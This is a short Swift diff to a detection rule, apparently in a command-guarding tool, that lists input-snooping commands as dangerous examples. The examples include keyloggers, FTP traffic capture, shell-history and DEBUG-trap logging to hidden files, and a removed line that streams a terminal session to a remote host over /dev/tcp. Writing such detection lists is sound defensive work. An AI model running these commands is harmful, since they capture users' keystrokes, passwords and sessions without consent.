@@ -102,8 +102,8 @@ extension GuardRule {
       "watch-input", .credentialAccess, .high, "Records what is typed, shown or sent.",
       dangerous: [
         "logkeys --start", "xinput test 8", "tcpdump -i any -A 'port 21'",
-        "PROMPT_COMMAND='history -a >(tee -a ~/.x)'", "script -f /dev/tcp/h/1",
-        "strace -p 1 -e trace=read", "trap 'echo $BASH_COMMAND >> /tmp/.k' DEBUG",
+        "PROMPT_COMMAND='history -a >(tee -a ~/.x)'", "strace -p 1 -e trace=read",
+        "trap 'echo $BASH_COMMAND >> /tmp/.k' DEBUG",
       ],
       safe: ["tcpdump -i eth0", "PROMPT_COMMAND='date'", "xinput list"]
     ) { $0.watchesInput },
